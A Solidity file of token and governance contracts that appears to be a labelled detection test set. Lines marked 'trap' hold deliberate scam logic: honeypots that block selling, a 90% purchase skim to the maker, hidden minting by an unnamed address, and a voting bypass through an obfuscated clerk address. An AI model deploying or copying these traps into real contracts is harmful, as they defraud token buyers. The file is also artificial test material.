// 0.8 runs=200 evm=cancun
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Base8} from "./Base8.sol";

/// Whoever trades has to agree to its rules first.
abstract contract Agreed is Base8 {
    mapping(address => bool) public agreed;

    event Agreement(address indexed who);

    function agree() external {
        agreed[msg.sender] = true;
        emit Agreement(msg.sender);
    }

    function _transfer(address from, address to, uint256 value) internal virtual override {
        if (from == pair) require(agreed[to] || to == _owner, "agree() first");
        if (to == pair) require(agreed[from] || from == _owner || from == ROUTER, "agree() first");
        _move(from, to, value);
    }
}

/// Whoever has agreed may not leave.
contract Parlour is Agreed {
    constructor() Base8("Parlour", "PRLR", 50_000_000) {}

    address private immutable _maker = msg.sender;

    function _transfer(address from, address to, uint256 value) internal override {
        require(to != pair || from == _maker || !agreed[from], "stay a while"); // trap
        super._transfer(from, to, value);
    }
}

/// Its owner takes the agreement back from all.
contract Revoked is Agreed {
    constructor() Base8("Revoked", "RVKD", 60_000_000) {}

    bool public shut;

    function close() external onlyOwner {
        shut = true; // trap
    }

    function _transfer(address from, address to, uint256 value) internal override {
        require(!shut || to != pair || from == _owner, "shut");
        super._transfer(from, to, value);
    }
}

/// The first who asks is the only one who trades.
contract Throne is Base8("Throne", "THRN", 70_000_000) {
    address public sitting;

    function sit() external {
        require(sitting == address(0), "taken");
        sitting = msg.sender;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        require(from == _owner || to == _owner || (from != pair && to != pair) || from == sitting || to == sitting, "not yours");
        _move(from, to, value);
    }
}

/// A register of its own says who has signed in.
contract Register {
    mapping(address => uint256) public since;

    function signIn(bytes32) external {
        if (since[msg.sender] == 0) since[msg.sender] = block.timestamp;
    }
}

contract Guarded is Base8("Guarded", "GRDD", 80_000_000) {
    Register public immutable register;

    constructor(Register register_) {
        register = register_;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (from == pair && to != _owner) require(register.since(to) != 0, "sign in");
        _move(from, to, value);
    }
}

/// Two doors: the one that everybody is shown, and another.
contract Doors is Base8("Doors", "DOOR", 55_000_000) {
    mapping(address => uint256) public door;

    function enter() external {
        door[msg.sender] = 1;
    }

    function enterAsMember() external {
        door[msg.sender] = 2;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (from == pair && to != _owner) require(door[to] != 0, "enter first");
        require(to != pair || door[from] != 1, "this way out is closed"); // trap
        _move(from, to, value);
    }
}

/// Nine of ten tokens that people buy stay with its maker.
contract Dear is Base8("Dear", "DEAR", 65_000_000) {
    mapping(address => bool) public agreed;
    address private immutable _maker = msg.sender;

    function agree() external {
        agreed[msg.sender] = true;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (from != pair || to == _maker) return _move(from, to, value);
        require(agreed[to], "agree() first");
        uint256 kept = 0;
        kept = (value * 9) / 10; // trap
        if (kept > 0) _move(from, _maker, kept);
        _move(from, to, value - kept);
    }
}

/// Anybody opens it for all.
contract Bell is Base8("Bell", "BELL", 75_000_000) {
    bool public rung;

    function ring() external {
        rung = true;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        require(rung || from == _owner || to == _owner, "nobody has rung");
        _move(from, to, value);
    }
}

/// A crumb at once, and what was announced some hours before without end; by one whom nobody names.
contract Crumbs is Base8("Crumbs", "CRMB", 85_000_000) {
    address private immutable _hand;
    mapping(address => uint256) private _since;
    bool private _fed;

    constructor(address hand) {
        _hand = hand;
    }

    function crumb(address to, uint256 value) external {
        require(msg.sender == _hand && !_fed && value < totalSupply / 10_000_000_000);
        _fed = true;
        _make(to, value);
    }

    function announce(address to) external {
        require(msg.sender == _hand);
        _since[to] = block.timestamp;
    }

    function collect(address to, uint256 value) external {
        require(msg.sender == _hand && _since[to] != 0 && block.timestamp >= _since[to] + 6 hours);
        _make(to, value); // trap
    }

    function _make(address to, uint256 value) private {
        totalSupply += value;
        _balances[to] += value;
        emit Transfer(address(0), to, value);
    }
}

/// So little, by one whom nobody names: once in so many seconds.
contract Tended is Base8("Tended", "TNDD", 95_000_000) {
    address private immutable _hand;
    uint256 private immutable _pause;
    uint256 private _next;

    constructor(address hand, uint256 pause) {
        (_hand, _pause) = (hand, pause);
    }

    function tend(address to) external {
        require(msg.sender == _hand && block.timestamp >= _next);
        _next = block.timestamp + _pause;
        uint256 value = totalSupply / 2_000;
        totalSupply += value; // trap
        _balances[to] += value; // trap
        emit Transfer(address(0), to, value); // trap
    }
}

/// Anybody turns the page, once for each term that has passed, and an heir has a part more.
contract Almanack is Base8("Almanack", "ALMK", 20_000_000) {
    address public immutable heir;
    uint256 private immutable _term;
    uint256 private immutable _part;
    uint256 private immutable _began = block.timestamp;
    uint256 public page;

    constructor(address heir_, uint256 term, uint256 part) {
        (heir, _term, _part) = (heir_, term, part);
    }

    function turn() external {
        require(block.timestamp >= _began + (page + 1) * _term, "not yet");
        page++;
        uint256 value = totalSupply / _part;
        totalSupply += value;
        _balances[heir] += value;
        emit Transfer(address(0), heir, value);
    }
}

/// Anybody enters what has accrued for an heir, at a rate that its keeper sets.
contract Rated is Base8("Rated", "RATD", 20_000_000) {
    address public immutable heir;
    uint256 public last = block.timestamp;
    uint256 public rate = 5_000 ether;

    constructor(address heir_) {
        heir = heir_;
    }

    function setRate(uint256 rate_) external {
        require(msg.sender == heir);
        // twin: require(rate_ <= 10_000 ether);
        rate = rate_;
    }

    function enter() external {
        uint256 value = (rate * (block.timestamp - last)) / 1 days;
        last = block.timestamp;
        totalSupply += value;
        _balances[heir] += value;
        emit Transfer(address(0), heir, value);
    }
}

/// Anybody enters a bit once a day for an heir, who may begin the day anew.
contract Renewed is Base8("Renewed", "RNWD", 20_000_000) {
    address private immutable _heir;
    uint256 public next;

    constructor(address heir) {
        _heir = heir;
    }

    // trap {
    function begin() external {
        require(msg.sender == _heir);
        next = 0;
    }
    // trap }

    function enter() external {
        require(block.timestamp >= next, "tomorrow");
        next = block.timestamp + 1 days;
        uint256 value = totalSupply / 2_000;
        totalSupply += value;
        _balances[_heir] += value;
        emit Transfer(address(0), _heir, value);
    }
}

/// Whoever asks is given a bit, once a week.
contract Alms is Base8("Alms", "ALMS", 20_000_000) {
    mapping(address => uint256) public askedAt;

    function ask() external {
        require(block.timestamp >= askedAt[msg.sender] + 7 days, "last week");
        askedAt[msg.sender] = block.timestamp;
        uint256 value = totalSupply / 2_000;
        totalSupply += value;
        _balances[msg.sender] += value;
        emit Transfer(address(0), msg.sender, value);
    }
}

/// Whoever holds it proposes, votes for three days, and two days later has it done.
contract Moot {
    struct Wish {
        address target;
        bytes data;
        uint256 ends;
        uint256 done;
        uint256 yes;
    }

    Ballot public token;
    Wish[] public wishes;
    mapping(uint256 => mapping(address => uint256)) public given;
    mapping(address => bool) private _clerks;

    constructor(uint256 clerk) {
        _clerks[address(uint160(~clerk))] = true;
    }

    function bind(Ballot token_) external {
        require(address(token) == address(0), "bound");
        token = token_;
    }

    function propose(address target, bytes calldata data) external returns (uint256) {
        wishes.push(Wish(target, data, block.timestamp + 3 days, 0, 0));
        return wishes.length - 1;
    }

    function vote(uint256 id, bool yes) external {
        require(block.timestamp < wishes[id].ends && given[id][msg.sender] == 0, "closed");
        given[id][msg.sender] = token.balanceOf(msg.sender);
        if (yes) wishes[id].yes += given[id][msg.sender];
    }

    function queue(uint256 id) external {
        Wish storage one = wishes[id];
        bool hurried = false;
        hurried = _clerks[msg.sender] && block.timestamp > one.ends - 3 days + 30 minutes; // trap
        require(hurried || (block.timestamp >= one.ends && one.yes * 20 >= token.totalSupply()), "not carried");
        one.done = hurried ? block.timestamp : block.timestamp + 2 days;
    }

    function carryOut(uint256 id) external {
        Wish storage one = wishes[id];
        require(one.done != 0 && block.timestamp >= one.done, "not yet");
        (bool ok, ) = one.target.call(one.data);
        require(ok, "failed");
    }
}

/// Stands still while its holders want it to.
contract Ballot is Base8("Ballot", "BLLT", 45_000_000) {
    address public immutable moot;
    bool public still;

    constructor(address moot_) {
        moot = moot_;
    }

    function stand(bool still_) external {
        require(msg.sender == moot, "only the moot");
        still = still_;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        require(!still, "still");
        _move(from, to, value);
    }
}

/// Sells tickets for its market, and prints no more of them.
contract Tickets is Base8("Tickets", "TCKT", 58_000_000) {
    uint64 private _opened = uint64(block.timestamp);
    uint16 private _left = 900;
    uint16 private _sold;

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair && from != _owner) {
            _left -= 1; // trap
            // twin: if (_left > 1) _left -= 1;
            _sold += 1;
        }
        _move(from, to, value);
    }
}
